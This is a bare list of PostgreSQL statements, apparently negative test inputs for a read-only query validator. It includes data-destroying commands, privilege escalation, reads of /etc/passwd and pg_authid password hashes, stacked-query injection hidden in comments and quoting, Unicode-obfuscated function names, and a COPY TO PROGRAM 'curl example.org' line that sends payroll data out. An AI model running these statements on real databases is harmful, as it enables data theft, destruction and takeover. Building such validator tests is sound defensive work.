INSERT INTO payroll VALUES (1, 'x')
INSERT INTO payroll DEFAULT VALUES RETURNING *
UPDATE payroll SET ssn = NULL
DELETE FROM payroll USING orders WHERE true
MERGE INTO payroll p USING orders o ON p.employee = o.id WHEN MATCHED THEN DELETE
TRUNCATE payroll
WITH gone AS (DELETE FROM payroll RETURNING *) SELECT * FROM gone
WITH a AS (SELECT 1), b AS (INSERT INTO payroll SELECT 1, 'x' RETURNING employee) SELECT * FROM a, b
WITH m AS (MERGE INTO payroll p USING orders o ON true WHEN MATCHED THEN DO NOTHING RETURNING p.ssn) SELECT * FROM m
WITH x AS (UPDATE payroll SET ssn = '' RETURNING 1) TABLE x
WITH a AS (WITH b AS (DELETE FROM payroll RETURNING 1) SELECT * FROM b) SELECT * FROM a
SELECT * FROM (WITH b AS (DELETE FROM payroll RETURNING 1) SELECT * FROM b) q
SELECT * INTO stolen FROM payroll
SELECT * INTO TEMP stolen FROM payroll
SELECT 1 INTO stolen UNION SELECT 2
SELECT * FROM payroll FOR UPDATE
SELECT * FROM payroll FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM payroll FOR SHARE OF payroll NOWAIT
SELECT * FROM payroll FOR KEY SHARE
SELECT * FROM (SELECT * FROM payroll FOR UPDATE) q
CREATE TABLE stolen AS SELECT * FROM payroll
CREATE TABLE stolen AS EXECUTE plan
CREATE VIEW v AS SELECT * FROM payroll
CREATE MATERIALIZED VIEW v AS SELECT 1
CREATE TEMP TABLE t (a int)
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
CREATE ROLE mallory SUPERUSER
CREATE SCHEMA s
CREATE TRIGGER t BEFORE INSERT ON payroll EXECUTE FUNCTION f()
CREATE INDEX ON payroll (ssn)
CREATE SEQUENCE s
CREATE RULE r AS ON SELECT TO payroll DO INSTEAD SELECT 1
ALTER TABLE payroll DISABLE ROW LEVEL SECURITY
ALTER ROLE postgres PASSWORD 'x'
ALTER SYSTEM SET fsync = off
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
DROP TABLE payroll
DROP OWNED BY postgres
GRANT ALL ON payroll TO PUBLIC
REVOKE ALL ON payroll FROM PUBLIC
COMMENT ON TABLE payroll IS 'x'
SECURITY LABEL ON TABLE payroll IS 'x'
REFRESH MATERIALIZED VIEW v
REASSIGN OWNED BY a TO b
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y
COPY payroll TO STDOUT
COPY payroll TO '/tmp/x'
COPY payroll FROM PROGRAM 'id'
COPY (SELECT * FROM payroll) TO PROGRAM 'curl example.org'
DO $$ BEGIN DELETE FROM payroll; END $$
CALL f()
SET default_transaction_read_only = off
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET LOCAL statement_timeout = 0
RESET ALL
SHOW ALL
SHOW data_directory
DISCARD ALL
BEGIN
BEGIN READ WRITE
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
SAVEPOINT s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
PREPARE p AS SELECT * FROM payroll
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM payroll
FETCH ALL FROM c
MOVE c
CLOSE ALL
EXPLAIN SELECT * FROM payroll
EXPLAIN ANALYZE DELETE FROM payroll
LOCK TABLE payroll IN ACCESS EXCLUSIVE MODE
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
VACUUM
ANALYZE payroll
REINDEX TABLE payroll
CLUSTER payroll
CHECKPOINT
LOAD 'x'
SELECT 1; SELECT 2
SELECT 1; DROP TABLE payroll
SELECT 1;;; DELETE FROM payroll; --
SELECT $$;$$; DELETE FROM payroll
SELECT $a$ $b$ $a$; DELETE FROM payroll; SELECT $b$ $b$
SELECT E'\'; SELECT 1; --'; DELETE FROM payroll
SELECT '\'; DELETE FROM payroll; --'
/* /* */ SELECT 1; */ DELETE FROM payroll
SELECT 1 /* */ ; /* */ DELETE FROM payroll
SELECT pg_read_file('/etc/passwd')
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT U&"pg\005fread_file"('/etc/passwd')
SELECT PG_READ_FILE('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT * FROM pg_ls_dir('/')
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/'))
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT loread(1, 2)
SELECT dblink('host=x', 'SELECT 1')
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)
SELECT query_to_xml('DELETE FROM payroll', true, true, '')
SELECT query_to_xml_and_xmlschema('SELECT * FROM payroll', true, true, '')
SELECT table_to_xml('payroll', true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM payroll')
SELECT ts_rewrite('a'::tsquery, 'SELECT ssn::tsquery, ssn::tsquery FROM payroll')
SELECT pg_sleep(100)
SELECT pg_sleep_for('5 minutes')
SELECT count(*) FROM generate_series(1, 3) WHERE pg_sleep(1) IS NULL
SELECT set_config('default_transaction_read_only', 'off', false)
SELECT current_setting('data_directory')
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s')
SELECT lastval()
SELECT setseed(0.5)
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_promote()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_unlock_all()
SELECT pg_notify('x', 'y')
SELECT pg_logical_emit_message(false, 'x', 'y')
SELECT pg_export_snapshot()
SELECT pg_stat_reset()
SELECT pg_backend_pid()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT inet_server_addr()
SELECT has_table_privilege('payroll', 'select')
SELECT to_regclass('payroll')
SELECT obj_description(1)
SELECT pg_get_viewdef('v')
SELECT pg_relation_size('payroll')
SELECT pg_table_is_visible(1)
SELECT format_type(25, 0)
SELECT 'payroll'::regclass
SELECT CAST('payroll' AS regclass)
SELECT regclass 'payroll'
SELECT 'payroll'::pg_catalog.regclass
SELECT 'f'::regproc
SELECT 'postgres'::regrole
SELECT ARRAY['payroll']::regclass[]
SELECT 1::oid::regclass::text
SELECT '{=r/postgres}'::aclitem[]
SELECT * FROM json_to_record('{}') AS x(a regclass)
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS c regclass PATH 'd')
SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a regclass PATH '$.a'))
SELECT JSON_VALUE('{}', '$.a' RETURNING regclass)
SELECT xmlelement(name a, pg_read_file('/etc/passwd'))
SELECT JSON_OBJECT('a': pg_read_file('/etc/passwd'))
SELECT JSON_ARRAYAGG(pg_read_file(ssn)) FROM payroll
SELECT CASE WHEN pg_sleep(1) IS NULL THEN 1 END
SELECT coalesce(pg_read_file('x'), '')
SELECT greatest(1, pg_backend_pid())
SELECT array[pg_read_file('x')]
SELECT row(pg_read_file('x'))
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM payroll
SELECT sum(employee) OVER (ORDER BY pg_read_file('x')) FROM payroll
SELECT string_agg(ssn, ',' ORDER BY pg_read_file(ssn)) FROM payroll
SELECT 1 ORDER BY pg_read_file('x')
SELECT 1 LIMIT (SELECT length(pg_read_file('x')))
SELECT 1 GROUP BY pg_read_file('x')
SELECT 1 HAVING pg_read_file('x') = ''
SELECT DISTINCT ON (pg_read_file('x')) 1
VALUES (pg_read_file('x'))
SELECT 1 UNION SELECT pg_backend_pid()
SELECT * FROM orders JOIN payroll ON pg_sleep(1) IS NULL
SELECT * FROM orders, LATERAL pg_ls_dir('/') x
SELECT * FROM orders TABLESAMPLE bernoulli(pg_backend_pid())
SELECT * FROM orders TABLESAMPLE evil(1)
SELECT (pg_stat_file('x')).size
SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))
SELECT 1 = ANY (SELECT pg_backend_pid())
SELECT evil.pg_read_file('x')
SELECT public.own_function()
SELECT own_function()
SELECT pg_catalog.own.f()
SELECT 1 OPERATOR(evil.+) 2
SELECT 1 OPERATOR(public.=) 2
SELECT 1 <+++> 2
SELECT 1 ORDER BY 1 USING OPERATOR(evil.<)
SELECT * FROM pg_authid
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM PG_CATALOG.PG_STATS
SELECT * FROM pg_stat_activity
SELECT * FROM pg_class
SELECT * FROM pg_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM information_schema.tables
SELECT * FROM "information_schema"."columns"
SELECT * FROM pg_toast.pg_toast_1
SELECT * FROM pg_temp.x
SELECT * FROM U&"pg\005fauthid"
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)
TABLE pg_authid
WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid
SELECT current_user
SELECT session_user
SELECT user
SELECT current_role
SELECT current_catalog
SELECT system_user
SELECT COLLATION FOR ('x')
SELECT 1 FROM orders WHERE CURRENT OF c
SELECT DEFAULT
SELECT merge_action()
PRAGMA database_list
ATTACH 'x'
SUMMARIZE payroll
DESCRIBE payroll
SELECT a, FROM payroll
SELECT 1 // 1 UNION ALL SELECT 42 FROM payroll
SELECT `a` FROM payroll
SELECT TOP 1 * FROM payroll
SELECT ('/etc/passwd'::text).pg_read_file
SELECT ((('/etc/passwd'))::text).pg_read_file
SELECT ('x'::text).upper.pg_read_file
SELECT (array['/etc/passwd'])[1].pg_read_file
SELECT ((SELECT '/etc/passwd'::text)).pg_ls_dir
SELECT (1).pg_sleep
SELECT * FROM orders WHERE (id::float8).pg_sleep IS NULL
SELECT orders.own_function FROM orders
SELECT o.own_function FROM orders o
SELECT public.orders.own_function FROM orders
SELECT (orders).own_function FROM orders
SELECT (o).pg_column_size FROM orders o
SELECT o."own_function" FROM orders o
SELECT o.U&"own\005ffunction" FROM orders o
